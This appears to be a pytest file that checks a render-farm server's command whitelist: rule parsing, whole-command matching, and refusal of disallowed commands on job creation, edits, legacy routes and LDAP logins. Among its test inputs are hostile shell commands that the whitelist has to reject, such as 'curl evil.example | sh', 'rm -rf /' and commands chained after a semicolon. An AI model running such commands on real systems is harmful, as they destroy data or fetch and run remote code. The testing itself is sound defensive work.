"""`commandwhitelist`: parsing, whole-command matching, and enforcement at creation and on
every command edit, on an open farm and with LDAP logins."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import requests

from coalition.auth.whitelist import WhitelistError, parse_whitelist
from coalition.config import ConfigError, load_server_settings
from tests.authfarm import Slapd, ldap_keys

# The documented layout: global lines first, then one section per user.
RULES = r"""render -f \d+
    echo [a-z ]*
    @artist1
    maya -batch -file \S+\.ma
    @alice
    nuke -x \S+
"""


def test_parse_sections_and_whole_command_matching() -> None:
    wl = parse_whitelist(RULES)
    assert len(wl.global_rules) == 2 and set(wl.user_rules) == {"artist1", "alice"}
    assert wl.refusal("anyone", "render -f 12") is None
    assert wl.refusal("artist1", "maya -batch -file shot.ma") is None
    assert wl.refusal("alice", "nuke -x comp.nk") is None
    # The whole command must match: Coalition 4's prefix match let these through.
    assert wl.refusal("anyone", "render -f 12; rm -rf ~") is not None
    assert wl.refusal("anyone", "render -f 12 && curl evil.example | sh") is not None
    # Another user's rules are not yours.
    assert wl.refusal("alice", "maya -batch -file shot.ma") is not None
    # A group runs nothing: always allowed.
    assert wl.refusal("anyone", "") is None


def test_refusals_name_the_rule_sets() -> None:
    wl = parse_whitelist(RULES)
    why = wl.refusal("artist1", "rm -rf /")
    assert why is not None and "global" in why and "@artist1" in why
    why = wl.refusal("bob", "rm -rf /")
    assert why is not None and "global" in why and "bob has no @bob rules" in why
    only_users = parse_whitelist("@alice\nnuke .*")
    why = only_users.refusal("bob", "anything")
    assert why is not None and "no rule it could match" in why  # no global rules, no own set: refused


def test_empty_whitelist_allows_everything() -> None:
    assert not parse_whitelist("").active
    assert parse_whitelist("\n \n").refusal("x", "rm -rf /") is None


@pytest.mark.parametrize(("text", "line"), [("ok\n(unclosed", 2), ("@\n", 1), ("@two words", 1)])
def test_bad_rules_name_their_line(text: str, line: int, tmp_path: Path) -> None:
    with pytest.raises(WhitelistError, match=f"line {line}"):
        parse_whitelist(text)
    ini = tmp_path / "c.ini"
    ini.write_text("[server]\ncommandwhitelist = " + text.replace("\n", "\n  ") + "\n")
    with pytest.raises(ConfigError, match="commandwhitelist"):
        load_server_settings(str(ini))


def _ini_value(text: str) -> str:
    return "\n  ".join(line.strip() for line in text.strip().splitlines())


def test_open_farm_checks_creation_edits_and_legacy_routes(make_auth_server: Any) -> None:
    farm = make_auth_server(commandwhitelist=_ini_value(RULES))
    url = farm.url
    ok = requests.put(url + "/api/jobs", json={"title": "ok", "command": "render -f 3"}, timeout=30)
    assert ok.status_code == 200
    jid = int(ok.json())
    bad = requests.put(url + "/api/jobs", json={"title": "bad", "command": "render -f 3; reboot"}, timeout=30)
    assert bad.status_code == 403 and "global" in bad.json()["error"]
    # A batch is all or nothing.
    batch = [{"command": "render -f 1"}, {"command": "sh -c evil"}]
    assert requests.put(url + "/api/jobs", json=batch, timeout=30).status_code == 403
    # Without LDAP the per-user rules go by the job's `user` field.
    maya = {"title": "m", "command": "maya -batch -file a.ma", "user": "artist1"}
    assert requests.put(url + "/api/jobs", json=maya, timeout=30).status_code == 200
    assert requests.put(url + "/api/jobs", json={**maya, "user": "bob"}, timeout=30).status_code == 403
    # Every command edit is checked, alone or with other fields.
    r = requests.post(url + "/api/jobs", json={str(jid): {"command": "curl x | sh"}}, timeout=30)
    assert r.status_code == 403 and "commandwhitelist" in r.json()["error"]
    r = requests.post(url + "/api/jobs", json={str(jid): {"title": "t", "command": "rm -rf /"}}, timeout=30)
    assert r.status_code == 403
    assert requests.get(f"{url}/api/jobs/{jid}", timeout=30).json()["command"] == "render -f 3"
    assert requests.post(url + "/api/jobs", json={str(jid): {"command": "echo fine"}}, timeout=30).ok
    # Giving a job to a user with more rules does not sneak a command past the check.
    r = requests.post(
        url + "/api/jobs",
        json={str(jid): {"user": "artist1", "command": "maya -batch -file b.ma"}},
        timeout=30,
    )
    assert r.status_code == 200
    # The legacy submission routes.
    assert requests.get(url + "/json/addjob", params={"cmd": "rm -rf /"}, timeout=30).status_code == 403
    assert requests.post(url + "/xmlrpc/addjob", data={"cmd": "rm -rf /"}, timeout=30).status_code == 403
    assert requests.get(url + "/json/addjob", params={"cmd": "render -f 9"}, timeout=30).status_code == 200
    # Groups (no command) are not commands.
    assert requests.put(url + "/api/jobs", json={"title": "group"}, timeout=30).status_code == 200


def test_ldap_farm_uses_the_login_not_the_user_field(slapd: Slapd, make_auth_server: Any) -> None:
    farm = make_auth_server(**ldap_keys(slapd, commandwhitelist=_ini_value(RULES)))
    url = farm.url
    maya = {"title": "m", "command": "maya -batch -file a.ma"}
    artist1, artist2, admin = farm.client("artist1"), farm.client("artist2"), farm.client("admin1")
    assert artist1.put(url + "/api/jobs", json=maya).status_code == 200
    refused = artist2.put(url + "/api/jobs", json={**maya, "user": "artist1"})
    assert refused.status_code == 403 and "@artist2" in refused.json()["error"]
    # The one who chooses the command is held to their own rules, whoever will own the job.
    assert admin.put(url + "/api/jobs", json={**maya, "user": "artist1"}).status_code == 403
    jid = int(artist1.put(url + "/api/jobs", json={"title": "r", "command": "render -f 1"}).json())
    assert artist1.post(url + "/api/jobs", json={str(jid): {"command": "maya -batch -file b.ma"}}).ok
    assert artist1.post(url + "/api/jobs", json={str(jid): {"command": "maya; id"}}).status_code == 403
    assert artist2.get(url + "/json/addjob", params={"cmd": "maya -batch -file c.ma"}).status_code == 403


def test_the_documented_form_names_each_rules_set(make_auth_server: Any) -> None:
    # The 4.0 documentation's example, word for word in shape: `global <regexp>` in the
    # global list, `<user> <regexp>` under `@<user>`.
    documented = (
        "global echo .*\n  global render -f [0-9]+\n  @user1\n  user1 maya -batch .*\n  user1 nuke -x .*"
    )
    farm = make_auth_server(commandwhitelist=documented)
    put = lambda **job: requests.put(farm.url + "/api/jobs", json=job, timeout=30).status_code  # noqa: E731
    assert put(command="echo hello") == 200
    assert put(command="render -f 12") == 200
    assert put(command="maya -batch scene.ma", user="user1") == 200
    assert put(command="nuke -x comp.nk", user="user1") == 200
    assert put(command="maya -batch scene.ma", user="user2") == 403
    assert put(command="rm -rf /") == 403
    assert put(command="global echo x") == 403  # the word names the set; it is not the command
